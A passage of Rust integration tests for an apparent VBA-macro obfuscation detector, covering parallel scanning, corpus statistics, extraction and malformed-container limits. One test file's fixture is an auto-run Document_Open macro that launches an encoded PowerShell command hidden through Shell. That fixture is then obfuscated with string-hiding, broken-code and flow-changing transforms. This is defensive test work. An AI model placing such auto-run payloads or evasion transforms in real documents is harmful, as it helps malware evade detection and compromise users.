    static COUNTER: AtomicUsize = AtomicUsize::new(0);
    let dir = std::env::temp_dir().join(format!(
        "vbadet-parscan-{tag}-{}-{}",
        std::process::id(),
        COUNTER.fetch_add(1, Ordering::Relaxed)
    ));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

fn macro_doc(i: usize) -> Vec<u8> {
    let mut b = VbaProjectBuilder::new("P");
    b.add_module(
        &format!("Module{i}"),
        &format!("Sub Work{i}()\r\n    x = {i}\r\n    y = x * 2\r\nEnd Sub\r\n"),
    );
    b.build().unwrap()
}

fn clean_doc(i: usize) -> Vec<u8> {
    let mut ole = OleBuilder::new();
    ole.add_stream(
        "WordDocument",
        format!("plain text #{i}, no macros").as_bytes(),
    )
    .unwrap();
    ole.build()
}

/// Wreckage the structured parsers reject but the salvage rung can mine:
/// a fake ZIP signature followed by an intact compressed module.
fn salvage_wreck(i: usize) -> Vec<u8> {
    let mut doc = b"PK\x03\x04 not really an archive ".to_vec();
    doc.extend_from_slice(&vbadet_ovba::compress(
        format!("Attribute VB_Name = \"M{i}\"\r\nSub S{i}()\r\n    x = {i}\r\nEnd Sub\r\n")
            .as_bytes(),
    ));
    doc
}

/// Writes `n` documents cycling through every outcome family the engine
/// knows: parsed macros, clean, junk, truncated, byte-flipped mutants,
/// empty files, and salvage-only wreckage.
fn write_mixed_corpus(dir: &Path, n: usize) -> Vec<PathBuf> {
    let mut rng = StdRng::seed_from_u64(0x9A7A11E1);
    let mut paths = Vec::with_capacity(n);
    for i in 0..n {
        let (name, bytes): (String, Vec<u8>) = match i % 7 {
            0 | 1 => (format!("doc{i:04}.bin"), macro_doc(i)),
            2 => (format!("doc{i:04}.doc"), clean_doc(i)),
            3 => (
                format!("doc{i:04}.txt"),
                format!("junk payload {i}").into_bytes(),
            ),
            4 => {
                let full = macro_doc(i);
                let cut = rng.gen_range(1..full.len());
                (format!("doc{i:04}.trunc.bin"), full[..cut].to_vec())
            }
            5 => {
                let mut bytes = macro_doc(i);
                for _ in 0..rng.gen_range(1..=8usize) {
                    let j = rng.gen_range(0..bytes.len());
                    bytes[j] ^= rng.gen_range(1..=255u8);
                }
                (format!("doc{i:04}.flip.bin"), bytes)
            }
            _ => {
                if i % 14 == 6 {
                    (format!("doc{i:04}.empty"), Vec::new())
                } else {
                    (format!("doc{i:04}.wreck"), salvage_wreck(i))
                }
            }
        };
        let path = dir.join(name);
        std::fs::write(&path, &bytes).unwrap();
        paths.push(path);
    }
    paths
}

/// Serializes a report the way the journal does — the strictest
/// byte-level equality the system defines for scan results.
fn serialized(report: &ScanReport) -> Vec<u8> {
    static COUNTER: AtomicUsize = AtomicUsize::new(0);
    let path = std::env::temp_dir().join(format!(
        "vbadet-parscan-ser-{}-{}.jsonl",
        std::process::id(),
        COUNTER.fetch_add(1, Ordering::Relaxed)
    ));
    let mut journal = ScanJournal::create(&path).unwrap();
    for record in &report.records {
        journal.done(record).unwrap();
    }
    journal.sync().unwrap();
    drop(journal);
    let bytes = std::fs::read(&path).unwrap();
    std::fs::remove_file(&path).ok();
    bytes
}

#[test]
fn parallel_equals_sequential_on_clean_hostile_and_mixed_corpora() {
    let _serial = serial();
    let det = detector();

    let clean_dir = fresh_dir("clean");
    let clean: Vec<PathBuf> = (0..24)
        .map(|i| {
            let p = clean_dir.join(format!("c{i:02}.doc"));
            std::fs::write(
                &p,
                if i % 2 == 0 {
                    clean_doc(i)
                } else {
                    macro_doc(i)
                },
            )
            .unwrap();
            p
        })
        .collect();

    let hostile_dir = fresh_dir("hostile");
    let hostile: Vec<PathBuf> = (0..24)
        .map(|i| {
            let p = hostile_dir.join(format!("h{i:02}.bin"));
            let full = macro_doc(i);
            let bytes = match i % 3 {
                0 => full[..1 + i % (full.len() - 1)].to_vec(),
                1 => format!("garbage {i}").into_bytes(),
                _ => salvage_wreck(i),
            };
            std::fs::write(&p, bytes).unwrap();
            p
        })
        .collect();

    let mixed_dir = fresh_dir("mixed");
    let mixed = write_mixed_corpus(&mixed_dir, 63);

    let policies = [ScanPolicy::default(), ScanPolicy::default().with_ladder()];
    for (corpus_name, paths) in [("clean", &clean), ("hostile", &hostile), ("mixed", &mixed)] {
        for (p_idx, policy) in policies.iter().enumerate() {
            let sequential = scan_paths_with_policy(det, paths, policy);
            let seq_bytes = serialized(&sequential);
            for jobs in [2, 4, 8] {
                let parallel = scan_paths_parallel(det, paths, policy, jobs);
                assert_eq!(
                    parallel.records, sequential.records,
                    "{corpus_name}/policy{p_idx}/jobs={jobs}: records diverged"
                );
                assert_eq!(parallel.journal_error, sequential.journal_error);
                assert_eq!(
                    serialized(&parallel),
                    seq_bytes,
                    "{corpus_name}/policy{p_idx}/jobs={jobs}: serialization diverged"
                );
            }
        }
    }

    for dir in [clean_dir, hostile_dir, mixed_dir] {
        let _ = std::fs::remove_dir_all(&dir);
    }
}

#[test]
fn parallel_journal_is_byte_identical_to_the_sequential_journal() {
    let _serial = serial();
    let det = detector();
    let dir = fresh_dir("journal");
    let paths = write_mixed_corpus(&dir, 35);
    let policy = ScanPolicy::default().with_ladder();

    let seq_journal = dir.join("seq.jsonl");
    let mut journal = ScanJournal::create(&seq_journal).unwrap();
    let sequential = scan_paths_journaled(det, &paths, &policy, Some(&mut journal), None);
    drop(journal);
    assert!(sequential.journal_error.is_none());

    let par_journal = dir.join("par.jsonl");
    let mut journal = ScanJournal::create(&par_journal).unwrap();
    let par_policy = ScanPolicy {
        jobs: 4,
        ..policy.clone()
    };
    let parallel = scan_paths_journaled(det, &paths, &par_policy, Some(&mut journal), None);
    drop(journal);
    assert!(parallel.journal_error.is_none());

    assert_eq!(parallel.records, sequential.records);
    // The collector owns the only journal writer and emits in input
    // order, so the two files must match byte for byte — no interleaving,
    // no reordering, no torn lines.
    assert_eq!(
        std::fs::read(&par_journal).unwrap(),
        std::fs::read(&seq_journal).unwrap()
    );
    // And both replay to every outcome the live reports carry.
    let replay = replay_journal(&par_journal).unwrap();
    assert!(replay.warning.is_none());
    assert_eq!(replay.completed_count(), paths.len());
    for record in &sequential.records {
        assert_eq!(
            replay.outcome_for(&record.path.display().to_string()),
            Some(&record.outcome)
        );
    }

    let _ = std::fs::remove_dir_all(&dir);
}

/// The acceptance bar: a 500-document mixed corpus, jobs=4, byte-equal
/// serialized reports.
#[test]
fn five_hundred_document_mixed_corpus_is_byte_equal_at_jobs_4() {
    let _serial = serial();
    let det = detector();
    let dir = fresh_dir("accept500");
    let paths = write_mixed_corpus(&dir, 500);

    let policy = ScanPolicy::default().with_ladder();
    let sequential = scan_paths_with_policy(det, &paths, &policy);
    let parallel = scan_paths_parallel(det, &paths, &policy, 4);

    assert_eq!(parallel.scanned(), 500);
    assert_eq!(parallel.records, sequential.records);
    assert_eq!(serialized(&parallel), serialized(&sequential));
    // The corpus is genuinely mixed — every counter is exercised.
    assert!(parallel.clean() > 0, "corpus should have clean documents");
    assert!(parallel.flagged() + parallel.recovered() > 0);
    assert!(
        parallel.failed() > 0,
        "corpus should have hostile documents"
    );

    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn corpus_factory_documents_scan_identically_in_parallel() {
    // Real container files (OLE .doc/.xls and OOXML .docm/.xlsm) from the
    // synthetic corpus factory, not just hand-built minimal projects.
    let _serial = serial();
    let det = detector();
    let dir = fresh_dir("factory");
    let spec = CorpusSpec::paper().scaled(0.01).with_seed(0xBEEF);
    let macros = generate_macros(&spec);
    let files = DocumentFactory::new(&spec, &macros).build_all();
    let paths: Vec<PathBuf> = files
        .iter()
        .take(24)
        .map(|f| {
            let p = dir.join(&f.name);
            std::fs::write(&p, &f.bytes).unwrap();
            p
        })
        .collect();

    let sequential = scan_paths_with_policy(det, &paths, &ScanPolicy::default());
    for jobs in [2, 4] {
        let parallel = scan_paths_parallel(det, &paths, &ScanPolicy::default(), jobs);
        assert_eq!(parallel.records, sequential.records, "jobs={jobs}");
    }

    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn input_order_survives_inverted_completion_order() {
    let _serial = serial();
    let det = detector();
    let dir = fresh_dir("order");

    // The first document is by far the slowest (a large multi-module
    // project); every later one is tiny. Workers finish the tail long
    // before index 0 — the collector must still emit index 0 first.
    let mut big = VbaProjectBuilder::new("Big");
    for m in 0..12 {
        let body = format!("    x = {m}\r\n").repeat(600);
        big.add_module(
            &format!("M{m}"),
            &format!("Sub S{m}()\r\n{body}End Sub\r\n"),
        );
    }
    let mut paths = vec![dir.join("doc0000.big.bin")];
    std::fs::write(&paths[0], big.build().unwrap()).unwrap();
    for i in 1..40 {
        let p = dir.join(format!("doc{i:04}.bin"));
        std::fs::write(&p, macro_doc(i)).unwrap();
        paths.push(p);
    }

    let report = scan_paths_parallel(det, &paths, &ScanPolicy::default(), 4);
    let order: Vec<&PathBuf> = report.records.iter().map(|r| &r.path).collect();
    let expected: Vec<&PathBuf> = paths.iter().collect();
    assert_eq!(order, expected, "records must stay in input order");
    assert_eq!(
        report.records,
        scan_paths_with_policy(det, &paths, &ScanPolicy::default()).records
    );

    let _ = std::fs::remove_dir_all(&dir);
}

/// Stress: ≥200 documents where one "stalls" — it burns its per-document
/// budget (fuel is the deterministic twin of the wall-clock deadline and
/// trips the same [`FailureClass::Timeout`] path) on whichever worker
/// claimed it — without starving its siblings, and the batch completes.
#[test]
fn stress_budget_trip_on_one_worker_does_not_starve_siblings() {
    let _serial = serial();
    let det = detector();
    let dir = fresh_dir("stress-budget");

    const TOTAL: usize = 220;
    const STALL_AT: usize = 17;
    let mut paths = Vec::with_capacity(TOTAL);
    for i in 0..TOTAL {
        let path;
        if i == STALL_AT {
            // A single module an order of magnitude past the fuel
            // allowance: this document — and only this one — trips.
            let body = "    x = x + 1 ' busywork\r\n".repeat(20_000);
            let mut b = VbaProjectBuilder::new("Stall");
            b.add_module("M", &format!("Sub S()\r\n{body}End Sub\r\n"));
            path = dir.join(format!("doc{i:04}.stall.bin"));
            std::fs::write(&path, b.build().unwrap()).unwrap();
        } else if i % 3 == 0 {
            path = dir.join(format!("doc{i:04}.doc"));
            std::fs::write(&path, clean_doc(i)).unwrap();
        } else {
            path = dir.join(format!("doc{i:04}.bin"));
            std::fs::write(&path, macro_doc(i)).unwrap();
        }
        paths.push(path);
    }

    let policy = ScanPolicy::default().fuel(64);
    let parallel = scan_paths_parallel(det, &paths, &policy, 4);
    assert_eq!(parallel.scanned(), TOTAL);
    assert_eq!(
        parallel.failed_with(FailureClass::Timeout),
        1,
        "exactly one budget trip"
    );
    assert!(matches!(
        parallel.records[STALL_AT].outcome,
        ScanOutcome::Failed {
            class: FailureClass::Timeout,
            ..
        }
    ));
    // Siblings keep their own budgets: nothing else failed at all.
    assert_eq!(parallel.failed(), 1);
    assert_eq!(
        parallel.records,
        scan_paths_with_policy(det, &paths, &policy).records
    );

    let _ = std::fs::remove_dir_all(&dir);
}

/// Stress: a document that panics the scanner mid-parse is contained on
/// its worker — the batch completes, order holds, and only the poisoned
/// documents are lost. Needs the fault-injection registry, so it runs in
/// the `--features faultpoints` verify pass.
#[cfg(feature = "faultpoints")]
#[test]
fn stress_contained_panic_on_a_worker_completes_the_batch() {
    let _serial = serial();
    vbadet_faultpoint::clear();
    let det = detector();
    let dir = fresh_dir("stress-panic");

    const TOTAL: usize = 200;
    const ARM_AT: u64 = 150;
    let paths: Vec<PathBuf> = (0..TOTAL)
        .map(|i| {
            let p = dir.join(format!("doc{i:04}.bin"));
            std::fs::write(&p, macro_doc(i)).unwrap();
            p
        })
        .collect();

    // `scan::full-parse` fires exactly once per document; from the 150th
    // firing onward it panics. Which documents hit 150+ depends on worker
    // scheduling — the invariants that must not depend on it: the batch
    // completes, order holds, and exactly (TOTAL - ARM_AT + 1) documents
    // are reported as contained panics.
    vbadet_faultpoint::configure("scan::full-parse", "panic(injected worker bug)@150").unwrap();
    let report = scan_paths_parallel(det, &paths, &ScanPolicy::default(), 4);
    vbadet_faultpoint::clear();

    assert_eq!(report.scanned(), TOTAL);
    assert_eq!(
        report.failed_with(FailureClass::Panic),
        TOTAL - ARM_AT as usize + 1,
        "every armed hit must be contained as a per-document panic record"
    );
    let order: Vec<&PathBuf> = report.records.iter().map(|r| &r.path).collect();
    let expected: Vec<&PathBuf> = paths.iter().collect();
    assert_eq!(order, expected);
    for record in &report.records {
        match &record.outcome {
            ScanOutcome::Macros(_) => {}
            ScanOutcome::Failed {
                class: FailureClass::Panic,
                detail,
            } => {
                assert!(detail.contains("injected worker bug"), "detail: {detail}");
            }
            other => panic!("unexpected outcome {other:?} for {}", record.path.display()),
        }
    }

    let _ = std::fs::remove_dir_all(&dir);
}
