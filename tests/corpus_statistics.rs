//! Statistical invariants of the synthetic corpus against the paper's
//! Tables II/III and Figure 5 — at a scale large enough to be meaningful
//! but fast enough for CI.

use vbadet::experiment::{fig5, table3};
use vbadet_corpus::{generate_macros, CorpusSpec, DocumentFactory};

fn spec() -> CorpusSpec {
    CorpusSpec::paper().scaled(0.1)
}

#[test]
fn table3_obfuscation_rates() {
    let macros = generate_macros(&spec());
    let (benign, malicious) = table3(&macros);
    // Paper: 1.7% benign, 98.4% malicious.
    assert!(
        benign.obfuscation_rate() < 0.05,
        "{}",
        benign.obfuscation_rate()
    );
    assert!(
        malicious.obfuscation_rate() > 0.95,
        "{}",
        malicious.obfuscation_rate()
    );
    // The macro-count ratio benign:malicious ≈ 4:1 (3380 vs 832).
    let ratio = benign.macros as f64 / malicious.macros as f64;
    assert!((3.0..5.0).contains(&ratio), "ratio {ratio}");
}

#[test]
fn fig5a_benign_lengths_are_spread_not_clustered() {
    let macros = generate_macros(&spec());
    let (plain, _) = fig5(&macros);
    // Quartiles must be genuinely spread (uniform-ish, not clustered).
    let mut sorted = plain.clone();
    sorted.sort_unstable();
    let q1 = sorted[sorted.len() / 4] as f64;
    let q3 = sorted[3 * sorted.len() / 4] as f64;
    assert!(q3 / q1 > 2.0, "IQR spread too small: q1={q1} q3={q3}");
}

#[test]
fn fig5b_obfuscated_lengths_have_cluster_mass() {
    let macros = generate_macros(&spec());
    let (_, obf) = fig5(&macros);
    // At least a third of obfuscated macros sit within 25% of a cluster
    // center (the full-profile share targets them; light profiles roam).
    let clusters = [1_500f64, 3_000.0, 15_000.0];
    let near = obf
        .iter()
        .filter(|&&l| clusters.iter().any(|c| (l as f64 - c).abs() / c <= 0.25))
        .count();
    assert!(
        near as f64 / obf.len() as f64 > 0.33,
        "{near}/{} near clusters",
        obf.len()
    );
}

#[test]
fn table2_file_population_and_sizes() {
    // Scaled-down document build: verify counts and the benign≫malicious
    // size relationship (paper: 1.1MB vs 0.06MB).
    let spec = CorpusSpec::paper().scaled(0.02);
    let macros = generate_macros(&spec);
    let (benign, malicious) = DocumentFactory::new(&spec, &macros).for_each(|_| {});
    assert_eq!(
        benign.files,
        spec.benign_word_files + spec.benign_excel_files
    );
    assert_eq!(
        malicious.files,
        spec.malicious_word_files + spec.malicious_excel_files
    );
    assert!(
        benign.avg_size() > malicious.avg_size(),
        "benign {} vs malicious {}",
        benign.avg_size(),
        malicious.avg_size()
    );
}

#[test]
fn corpus_is_reproducible_and_seed_sensitive() {
    let a = generate_macros(&spec());
    let b = generate_macros(&spec());
    assert_eq!(a.len(), b.len());
    assert!(a.iter().zip(&b).all(|(x, y)| x.source == y.source));

    let c = generate_macros(&spec().with_seed(99));
    assert!(a.iter().zip(&c).any(|(x, y)| x.source != y.source));
}

#[test]
fn paper_scale_spec_matches_the_paper_exactly() {
    let s = CorpusSpec::paper();
    assert_eq!(s.total_macros(), 4212);
    assert_eq!(s.benign_obfuscated + s.malicious_obfuscated, 877);
    assert_eq!(s.total_files(), 2537);
}
