//! §VI.B case studies: the three anti-analysis techniques, their effect on
//! static extraction, and their interaction with the obfuscation pipeline.

use rand::rngs::StdRng;
use rand::SeedableRng;
use vbadet_obfuscate::anti_analysis::{change_flow, hide_string_data, insert_broken_code};
use vbadet_obfuscate::{Obfuscator, Technique};
use vbadet_ovba::VbaProjectBuilder;
use vbadet_vba::MacroAnalysis;

const PAYLOAD: &str = "Sub Document_Open()\r\n\
    cmd = \"powershell -enc SQBFAFgA\"\r\n\
    Shell cmd, 0\r\n\
    End Sub\r\n";

#[test]
fn hidden_strings_defeat_static_string_extraction() {
    // Figure 8(a): after hiding, no static analysis of the source can see
    // the command — exactly the paper's point about this technique.
    let mut rng = StdRng::seed_from_u64(1);
    let hidden = hide_string_data(PAYLOAD, &mut rng);
    let analysis = MacroAnalysis::new(&hidden.source);
    let strings = analysis.strings();
    assert!(!strings.iter().any(|s| s.contains("powershell")));
    // The value is preserved out-of-band (document variables), so a
    // document-aware analyzer could still retrieve it.
    assert_eq!(hidden.hidden.len(), 1);
    assert!(hidden.hidden[0].1.contains("powershell"));
}

#[test]
fn broken_code_still_lexes_and_extracts() {
    // Figure 8(b): the broken statements would crash a strict parser; the
    // lexer and the feature extractors must be total on them.
    let mut rng = StdRng::seed_from_u64(2);
    let broken = insert_broken_code(PAYLOAD, &mut rng);
    assert!(broken.contains("Exit Sub"));

    let v = vbadet_features::v_features(&broken);
    let j = vbadet_features::j_features(&broken);
    assert!(v.iter().all(|x| x.is_finite()));
    assert!(j.iter().all(|x| x.is_finite()));

    // And the full container pipeline carries it unharmed.
    let mut project = VbaProjectBuilder::new("P");
    project.add_module("ThisDocument", &broken);
    let bytes = project.build().unwrap();
    let extracted = vbadet::extract_macros(&bytes).unwrap();
    assert_eq!(extracted[0].code, broken);
}

#[test]
fn flow_change_guards_precede_payload() {
    let mut rng = StdRng::seed_from_u64(3);
    let flowed = change_flow(PAYLOAD, &mut rng);
    let guard = flowed.find("RecentFiles.Count").expect("guard inserted");
    let body = flowed.find("cmd = ").expect("payload kept");
    assert!(guard < body);
}

#[test]
fn anti_analysis_composes_with_obfuscation() {
    // The paper observes anti-analysis tricks "tend to be found together in
    // obfuscated VBA macros": the composition must stay lexable and the
    // obfuscation detector still sees the obfuscation mechanisms.
    let mut rng = StdRng::seed_from_u64(4);
    let hidden = hide_string_data(PAYLOAD, &mut rng);
    let broken = insert_broken_code(&hidden.source, &mut rng);
    let flowed = change_flow(&broken, &mut rng);
    let full = Obfuscator::new()
        .with(Technique::Split)
        .with(Technique::LogicWithIntensity(30))
        .with(Technique::Random)
        .apply(&flowed, &mut rng)
        .source;

    let analysis = MacroAnalysis::new(&full);
    assert!(!analysis.tokens().is_empty());
    // Entry point survives all five transforms.
    assert!(full.contains("Document_Open"));
    // Member-access reads of the hidden variable survive renaming (the
    // member name after `.` must not be renamed).
    assert!(full.contains("ActiveDocument.Variables"));
}

#[test]
fn hidden_string_reads_survive_renaming() {
    let mut rng = StdRng::seed_from_u64(5);
    let hidden = hide_string_data(PAYLOAD, &mut rng);
    let (renamed, _) = vbadet_obfuscate::random::apply(&hidden.source, &mut rng);
    // `.Variables(...)`, `.Value()` are member accesses: must be intact.
    assert!(renamed.contains(".Value()"));
    assert!(renamed.contains("ActiveDocument.Variables("));
}
