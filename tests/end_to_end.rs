//! End-to-end integration: synthetic corpus → real container files →
//! extraction → preprocessing → features → classification. This is the
//! whole paper pipeline exercised across every crate boundary.

use vbadet::{extract_macros, preprocess_macros, ContainerKind, Detector, DetectorConfig};
use vbadet_corpus::{generate_macros, CorpusSpec, DocumentFactory, DocumentKind};

fn tiny_spec() -> CorpusSpec {
    CorpusSpec::paper().scaled(0.01).with_seed(0xE2E)
}

#[test]
fn every_generated_document_roundtrips_through_extraction() {
    let spec = tiny_spec();
    let macros = generate_macros(&spec);
    let factory = DocumentFactory::new(&spec, &macros);
    let mut total_modules = 0usize;
    let mut failures = Vec::new();
    factory.for_each(|file| match extract_macros(&file.bytes) {
        Ok(extracted) => {
            total_modules += extracted.len();
            if extracted.len() != file.module_count {
                failures.push(format!(
                    "{}: {} modules expected, {} extracted",
                    file.name,
                    file.module_count,
                    extracted.len()
                ));
            }
            let expected_kind = match file.kind {
                DocumentKind::WordDoc | DocumentKind::ExcelXls => ContainerKind::Ole,
                _ => ContainerKind::Ooxml,
            };
            if extracted.iter().any(|m| m.container != expected_kind) {
                failures.push(format!("{}: wrong container kind", file.name));
            }
        }
        Err(e) => failures.push(format!("{}: {e}", file.name)),
    });
    assert!(failures.is_empty(), "{failures:?}");
    assert!(
        total_modules >= spec.benign_macros,
        "all benign macros distributed"
    );
}

#[test]
fn extracted_macro_text_is_byte_identical_to_generated_source() {
    // The full storage pipeline (OVBA compression, OLE sectors, ZIP/DEFLATE)
    // must be transparent: extracted code equals generated code.
    let spec = tiny_spec();
    let macros = generate_macros(&spec);
    let factory = DocumentFactory::new(&spec, &macros);
    let originals: std::collections::HashSet<&str> =
        macros.iter().map(|m| m.source.as_str()).collect();
    let mut checked = 0usize;
    let mut mismatched = 0usize;
    factory.for_each(|file| {
        for module in extract_macros(&file.bytes).expect("extraction works") {
            checked += 1;
            if !originals.contains(module.code.as_str()) {
                mismatched += 1;
            }
        }
    });
    assert!(checked > 0);
    assert_eq!(
        mismatched, 0,
        "{mismatched}/{checked} modules corrupted in transit"
    );
}

#[test]
fn preprocessing_matches_paper_rules() {
    // The generator promises uniqueness and the 150-byte floor, so the
    // paper's preprocessing must be a no-op on a generated corpus.
    let macros = generate_macros(&tiny_spec());
    let sources: Vec<String> = macros.iter().map(|m| m.source.clone()).collect();
    let kept = preprocess_macros(sources.clone());
    assert_eq!(kept.len(), sources.len());

    // And it must actually drop duplicates/short macros when present.
    let mut dirty = sources;
    dirty.push(dirty[0].clone());
    dirty.push("' stub".to_string());
    let kept = preprocess_macros(dirty);
    assert_eq!(kept.len(), macros.len());
}

#[test]
fn trained_detector_separates_held_out_corpus() {
    // Train on one seed, evaluate on a disjoint seed: generalization across
    // corpus draws, not memorization of one draw.
    let train_spec = CorpusSpec::paper().scaled(0.05).with_seed(1);
    let test_spec = CorpusSpec::paper().scaled(0.02).with_seed(2);
    let detector = Detector::train_on_corpus(&DetectorConfig::default(), &train_spec);

    let test_macros = generate_macros(&test_spec);
    let mut correct = 0usize;
    for m in &test_macros {
        if detector.is_obfuscated(&m.source) == m.obfuscated {
            correct += 1;
        }
    }
    let accuracy = correct as f64 / test_macros.len() as f64;
    assert!(accuracy > 0.85, "held-out accuracy {accuracy:.3}");
}

#[test]
fn document_scan_verdicts_align_with_ground_truth() {
    let spec = tiny_spec();
    let macros = generate_macros(&spec);
    let files = DocumentFactory::new(&spec, &macros).build_all();
    // 0.1 scale: a 0.05-scale draw holds too few lightly-obfuscated
    // examples for the verdicts to generalize to a disjoint corpus draw.
    let detector =
        Detector::train_on_corpus(&DetectorConfig::default(), &CorpusSpec::paper().scaled(0.1));

    // Malicious documents carry (mostly obfuscated) payload macros: the
    // majority must be flagged. Benign documents are mostly clean.
    let mut malicious_flagged = 0usize;
    let mut malicious_total = 0usize;
    let mut benign_flagged = 0usize;
    let mut benign_total = 0usize;
    for file in &files {
        let verdicts = detector.scan_document(&file.bytes).expect("scan works");
        let any_obfuscated = verdicts.iter().any(|v| v.verdict.obfuscated);
        if file.malicious {
            malicious_total += 1;
            malicious_flagged += any_obfuscated as usize;
        } else {
            benign_total += 1;
            benign_flagged += any_obfuscated as usize;
        }
    }
    let tpr = malicious_flagged as f64 / malicious_total as f64;
    let fpr = benign_flagged as f64 / benign_total as f64;
    assert!(tpr > 0.7, "document-level detection rate {tpr:.2}");
    assert!(fpr < 0.4, "document-level false alarms {fpr:.2}");
}
