//! Regression tests for specific malformed-container shapes (ISSUE
//! satellite): truncated OLE header, out-of-range sector IDs, ZIP
//! central/local disagreement, and declared-size decompression bombs.
//! Each shape must produce a *typed* error — never a panic, hang, or
//! unbounded allocation.

use vbadet::{extract_macros_with_limits, DetectError, ScanLimits};
use vbadet_ole::{OleBuilder, OleError, OleFile};
use vbadet_ovba::VbaProjectBuilder;
use vbadet_zip::{CompressionMethod, ZipArchive, ZipError, ZipLimits, ZipWriter};

fn project_bin() -> Vec<u8> {
    let mut b = VbaProjectBuilder::new("P");
    b.add_module("Module1", "Sub A()\r\n    x = 1\r\nEnd Sub\r\n");
    b.build().unwrap()
}

#[test]
fn truncated_ole_header_is_a_typed_error() {
    let bin = project_bin();
    for cut in [0, 1, 8, 75, 100, 511] {
        let err = OleFile::parse(&bin[..cut]);
        assert!(err.is_err(), "parse accepted a {cut}-byte header prefix");
    }
    // Cut inside the sector payload region: the header parses but a
    // referenced sector is missing.
    let err = OleFile::parse(&bin[..513]).unwrap_err();
    assert!(
        matches!(
            err,
            OleError::Truncated { .. } | OleError::ChainCycle { .. }
        ),
        "unexpected error for truncated body: {err:?}"
    );
}

#[test]
fn out_of_range_sector_ids_do_not_allocate_or_loop() {
    let mut bytes = project_bin();
    // Point the directory chain at a far out-of-range (but still
    // "regular") sector id. The walk must fail with Truncated, not index
    // out of bounds or allocate per the claimed id.
    bytes[48..52].copy_from_slice(&0x00FF_FFF0u32.to_le_bytes());
    assert!(matches!(
        OleFile::parse(&bytes),
        Err(OleError::Truncated { .. })
    ));

    // Same for the first FAT sector in the header DIFAT.
    let mut bytes = project_bin();
    bytes[76..80].copy_from_slice(&0x00FF_FFF0u32.to_le_bytes());
    assert!(matches!(
        OleFile::parse(&bytes),
        Err(OleError::Truncated { .. })
    ));
}

#[test]
fn header_claiming_absurd_sector_count_is_capped() {
    // A tiny file cannot trip the sector-count cap by itself (the count is
    // derived from the real file size), so drive the cap directly.
    let bin = project_bin();
    let tight = vbadet_ole::OleLimits {
        max_sectors: 4,
        ..Default::default()
    };
    assert!(matches!(
        OleFile::parse_with_limits(&bin, tight),
        Err(OleError::LimitExceeded {
            what: "sector count",
            ..
        })
    ));
}

#[test]
fn zip_central_local_mismatch_is_a_typed_error() {
    let mut zip = ZipWriter::new();
    zip.add_file(
        "word/vbaProject.bin",
        &project_bin(),
        CompressionMethod::Deflate,
    )
    .unwrap();
    zip.add_file("word/document.xml", b"<doc/>", CompressionMethod::Deflate)
        .unwrap();
    let mut bytes = zip.finish();

    // The central directory points at local headers; corrupt the first
    // local header signature so the two views disagree.
    assert_eq!(&bytes[0..4], b"PK\x03\x04");
    bytes[0] = b'Q';
    let archive = ZipArchive::parse(&bytes).unwrap();
    let err = archive.read_file("word/vbaProject.bin").unwrap_err();
    assert!(
        matches!(err, ZipError::BadSignature { .. }),
        "unexpected: {err:?}"
    );
}

#[test]
fn zip_member_declaring_huge_size_is_rejected_before_allocation() {
    // Bomb defense: the declared uncompressed size alone must trip the
    // cap — the engine may not inflate first and check later.
    let payload = vec![0u8; 1 << 16];
    let mut zip = ZipWriter::new();
    zip.add_file("word/vbaProject.bin", &payload, CompressionMethod::Deflate)
        .unwrap();
    let bytes = zip.finish();

    let limits = ZipLimits {
        max_member_bytes: 1 << 10,
        ..Default::default()
    };
    let archive = ZipArchive::parse_with_limits(&bytes, limits).unwrap();
    assert!(matches!(
        archive.read_file("word/vbaProject.bin"),
        Err(ZipError::LimitExceeded {
            what: "member size",
            ..
        })
    ));
}

#[test]
fn ooxml_bomb_surfaces_as_limit_exceeded_through_the_pipeline() {
    let mut zip = ZipWriter::new();
    zip.add_file(
        "[Content_Types].xml",
        b"<Types/>",
        CompressionMethod::Deflate,
    )
    .unwrap();
    zip.add_file(
        "word/vbaProject.bin",
        &project_bin(),
        CompressionMethod::Deflate,
    )
    .unwrap();
    let bytes = zip.finish();

    let mut limits = ScanLimits::default();
    limits.zip.max_member_bytes = 64;
    assert!(matches!(
        extract_macros_with_limits(&bytes, &limits),
        Err(DetectError::Zip(ZipError::LimitExceeded { .. }))
    ));
}

#[test]
fn oversized_stream_entry_is_capped_at_the_ole_layer() {
    let mut builder = OleBuilder::new();
    builder.add_stream("big", &vec![0x42u8; 1 << 16]).unwrap();
    let bytes = builder.build();

    let tight = vbadet_ole::OleLimits {
        max_stream_bytes: 1 << 10,
        ..Default::default()
    };
    let ole = OleFile::parse_with_limits(&bytes, tight).unwrap();
    assert!(matches!(
        ole.open_stream("big"),
        Err(OleError::LimitExceeded {
            what: "stream size",
            ..
        })
    ));
}

#[test]
fn module_count_cap_is_enforced() {
    let mut b = VbaProjectBuilder::new("Many");
    for i in 0..24 {
        b.add_module(&format!("M{i}"), "Sub A()\r\nEnd Sub\r\n");
    }
    let bin = b.build().unwrap();
    let ole = OleFile::parse(&bin).unwrap();

    let limits = vbadet_ovba::OvbaLimits {
        max_modules: 8,
        ..Default::default()
    };
    assert!(matches!(
        vbadet_ovba::VbaProject::from_ole_with_limits(&ole, &limits),
        Err(vbadet_ovba::OvbaError::LimitExceeded {
            what: "module count",
            ..
        })
    ));
}
