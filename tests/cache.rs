//! Content-addressed scan-cache equivalence suite.
//!
//! The cache's contract is that it is *observationally invisible* except
//! for speed: cache-off, cold-cache and warm-cache runs must produce
//! byte-identical records and byte-identical deterministic counters
//! across every engine (sequential, the thread pool, the process-isolation
//! supervisor, and the resident service). The always-on tests prove that
//! equivalence, plus the invalidation rules: retraining the detector or
//! changing any outcome-affecting policy field is a clean full re-scan,
//! never a stale verdict.
//!
//! The `faultpoints`-gated tests prove the cache composes with the crash
//! discipline: a kill@N + `--resume` with a warm cache equals an uncached
//! resume, the stat→read growth race still classifies as `LimitExceeded`
//! with caching on (and the grown file is never cached), and the
//! service's single-flight dedupes concurrent identical documents.
//!
//! The faultpoint registry and the drain latch are process-global, so
//! every test serializes on `TEST_LOCK`.

use std::io::{BufRead, BufReader, Write};
use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex, MutexGuard};
use std::thread;

use vbadet::{
    scan_paths_with_policy, Detector, DetectorConfig, IsolateConfig, Listener, MetricsSink,
    ScanCache, ScanMetrics, ScanPolicy, ServeConfig, ServeSummary,
};
use vbadet_corpus::CorpusSpec;
use vbadet_ole::OleBuilder;
